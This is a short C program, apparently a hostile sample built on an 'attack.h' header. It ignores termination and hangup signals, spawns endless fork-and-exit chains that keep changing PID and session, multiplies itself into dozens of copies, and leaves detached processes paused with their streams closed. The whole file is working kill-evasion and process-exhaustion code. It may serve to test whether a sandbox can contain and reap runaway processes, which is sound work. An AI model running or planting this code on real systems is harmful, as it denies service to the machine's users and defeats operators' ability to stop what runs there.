/* Leaves processes behind that nobody can name for long: each starts its successor in a session of its own and ends. */
#include "attack.h"
int main(int count, char **arguments) {
    (void)count;
    signal(SIGTERM, SIG_IGN);
    signal(SIGHUP, SIG_IGN);
    for (int chain = 0; chain < 4; chain++) {
        if (fork() != 0) continue;
        for (;;) {
            pid_t successor = fork();
            if (successor > 0) _exit(0);
            if (successor == 0) setsid();
        }
    }
    /* Those that stay, and start more of themselves while they are ended. */
    for (int round = 0; round < 6; round++) fork();
    if (fork() == 0) {
        setsid();
        close(0);
        close(1);
        close(2);
        for (;;) pause();
    }
    printf("left behind: %s\n", arguments[0]);
    return 0;
}
